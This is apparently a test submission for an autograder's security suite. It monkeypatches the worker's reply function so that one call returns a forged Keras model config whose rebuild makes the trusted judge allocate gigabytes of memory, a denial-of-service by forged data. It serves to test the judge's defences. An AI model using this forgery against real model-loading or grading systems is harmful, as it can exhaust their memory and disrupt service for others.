"""Attack: make the judge build a huge Keras model. A worker may send a Keras model as
config + weights, which the judge rebuilds in safe mode. This submission monkeypatches
the worker's protocol so that the reply to add(2, 3) is a forged 1 KB "model": a Dense
layer of 40000 x 40000 units on a 40000-wide input, with no weights. Rebuilding it
makes the *trusted* process allocate and initialise 6.4 GB before it notices that the
weights are missing. The answers are otherwise correct.

Expected: a reply can cost the judge no more memory than its own size (plus a bounded
factor); the run completes and every other submission keeps its row. Max score 5.
Only graded in a memory-capped run (never let it loose on an uncapped machine).
"""
import json

import numpy as np

import autograder.worker.dispatcher as DISPATCHER

UNITS = 40000
STATE = {"forge": False}


def _forged_model():
    dense = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"name": "huge", "units": UNITS}, "build_config": {"input_shape": [None, UNITS]}}
    source = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
              "config": {"batch_shape": [None, UNITS], "dtype": "float32", "name": "x"}}
    model = {"module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "forged", "layers": [source, dense], "build_input_shape": [None, UNITS]},
             "build_config": {"input_shape": [None, UNITS]}}
    return {"ok": {"$k": [json.dumps(model), []]}}


def _install():
    original = DISPATCHER.pack

    def pack(body, blobs):
        if STATE["forge"] and isinstance(body, dict) and "ok" in body:
            STATE["forge"] = False
            return original(_forged_model(), [])
        return original(body, blobs)

    DISPATCHER.pack = pack
    return True


INSTALLED = _install()


def add(a, b):
    if a == 2:
        STATE["forge"] = True
    return a + b


def scale(x, k):
    return np.asarray(x) * k
